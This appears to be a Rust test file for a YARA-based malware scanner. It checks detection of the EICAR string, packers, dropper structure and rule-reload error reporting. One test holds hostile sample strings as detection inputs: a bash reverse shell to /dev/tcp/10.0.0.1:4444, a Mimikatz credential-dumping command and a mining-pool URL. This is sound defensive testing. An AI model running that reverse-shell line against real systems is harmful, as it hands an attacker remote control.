//! Vigil's default YARA rules on real harmless executables and on test-time buffers, and
//! rule loading: errors with file, line and column; a failed reload keeps the old rules.

mod common;

use common::fixtures_dir;
use std::time::Duration;
use vigil_file::yara::{RuleSet, Yara};

const T: Duration = Duration::from_secs(5);

fn builtin() -> RuleSet {
    RuleSet::compile(&[], true).unwrap_or_else(|e| panic!("{e:?}"))
}

fn rules_matching(set: &RuleSet, bytes: &[u8]) -> Vec<String> {
    set.scan(bytes, T)
        .unwrap()
        .into_iter()
        .map(|m| m.rule)
        .collect()
}

/// The EICAR test string, assembled at test time (never stored as a file).
fn eicar() -> Vec<u8> {
    let mut s = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR".to_vec();
    s.extend_from_slice(b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*");
    s
}

#[test]
fn eicar_is_found_alone_and_embedded() {
    let set = builtin();
    assert!(set.len() >= 20, "{} rules", set.len());
    assert_eq!(rules_matching(&set, &eicar()), ["EICAR_Test_File"]);
    let mut embedded = b"some archive header ".to_vec();
    embedded.extend(eicar());
    embedded.extend_from_slice(&[0u8; 200]);
    assert_eq!(
        rules_matching(&set, &embedded),
        ["EICAR_Test_String_Embedded"]
    );
    // Half of it is nothing.
    assert!(rules_matching(&set, &eicar()[..40]).is_empty());
    let m = &set.scan(&eicar(), T).unwrap()[0];
    assert_eq!(m.score(), Some(100.0));
    assert_eq!(m.tags, ["test"]);
}

#[test]
fn strings_of_tools_and_payloads() {
    let set = builtin();
    let cases: [(&[u8], &str); 4] = [
        (
            b"..sekurlsa::logonpasswords .. gentilkiwi ..",
            "Tool_Mimikatz",
        ),
        (
            b"cfg: stratum+tcp://pool.example.org:3333 ",
            "Miner_Stratum_Pool",
        ),
        (
            b"#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
            "Payload_Reverse_Shell_Strings",
        ),
        (
            b"All your files are encrypted. Pay in Bitcoin.",
            "Ransom_Note_Phrases",
        ),
    ];
    for (bytes, rule) in cases {
        assert_eq!(rules_matching(&set, bytes), [rule], "{rule}");
    }
    assert!(rules_matching(&set, b"an ordinary text file about mining and shells").is_empty());
}

#[test]
fn packers_on_real_executables() {
    let Some(dir) = fixtures_dir() else { return };
    let set = builtin();
    let expect = [
        ("clam-upx.exe", "Packer_UPX"),
        ("clam-aspack.exe", "Packer_ASPack"),
        ("clam-petite.exe", "Packer_PEtite"),
        ("clam-mew.exe", "Packer_MEW"),
        ("clam-nsis.exe", "Installer_NSIS"),
    ];
    for (file, rule) in expect {
        let bytes = std::fs::read(dir.join(file)).unwrap();
        let found = rules_matching(&set, &bytes);
        assert!(found.iter().any(|r| r == rule), "{file}: {found:?}");
    }
    // The unpacked original trips no packer rule.
    let plain = rules_matching(&set, &std::fs::read(dir.join("clam.exe")).unwrap());
    assert!(!plain.iter().any(|r| r.starts_with("Packer_")), "{plain:?}");
}

#[test]
fn rule_errors_name_file_line_and_column_and_reload_keeps_the_old_rules() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("good.yar"),
        "rule Custom_Marker { strings: $a = \"VIGIL-MARKER\" condition: $a }\n",
    )
    .unwrap();
    let yara = Yara::load(vec![dir.path().to_path_buf()], false, T).unwrap();
    assert_eq!(yara.rules().len(), 1);
    let found = yara.scan(b"xx VIGIL-MARKER xx").unwrap();
    assert_eq!(found[0].rule, "Custom_Marker");
    assert_eq!(found[0].namespace, "good");

    let sub = dir.path().join("team");
    std::fs::create_dir(&sub).unwrap();
    std::fs::write(
        sub.join("broken.yara"),
        "rule A { condition: true }\n\nrule B {\n  condition: $missing\n}\n",
    )
    .unwrap();
    let errors = yara.reload().unwrap_err();
    assert_eq!(errors.len(), 1, "{errors:?}");
    let e = &errors[0];
    assert!(e.file.ends_with("team/broken.yara"), "{e}");
    assert_eq!((e.line, e.column), (4, 14), "{e}");
    assert!(e.code.starts_with('E'), "{e}");
    // The old rules still answer.
    assert_eq!(yara.scan(b"VIGIL-MARKER").unwrap().len(), 1);

    std::fs::write(
        sub.join("broken.yara"),
        "rule B { condition: filesize > 3 }\n",
    )
    .unwrap();
    assert_eq!(yara.reload().unwrap().len(), 2);
    assert_eq!(yara.scan(b"VIGIL-MARKER").unwrap().len(), 2);
}

#[test]
fn structure_and_capability_rules_on_real_executables() {
    let Some(dir) = fixtures_dir() else { return };
    let set = builtin();
    // An executable appended to another: a dropper's shape, built at test time.
    let clam = std::fs::read(dir.join("clam.exe")).unwrap();
    let mut dropper = clam.clone();
    dropper.extend_from_slice(&clam);
    let found = rules_matching(&set, &dropper);
    assert!(
        found.iter().any(|r| r == "PE_Embedded_In_Overlay"),
        "{found:?}"
    );
    assert!(
        !rules_matching(&set, &clam)
            .iter()
            .any(|r| r == "PE_Embedded_In_Overlay")
    );
    // InstallShield's setup stub imports what process hollowing needs.
    let setup = rules_matching(
        &set,
        &std::fs::read(dir.join("clam_ISmsi_ext.exe")).unwrap(),
    );
    assert!(
        setup.iter().any(|r| r == "Capability_Process_Hollowing"),
        "{setup:?}"
    );
    // UPX leaves a writable and executable section.
    let upx = rules_matching(&set, &std::fs::read(dir.join("clam-upx.exe")).unwrap());
    assert!(
        upx.iter().any(|r| r == "PE_Writable_Executable_Section"),
        "{upx:?}"
    );
}
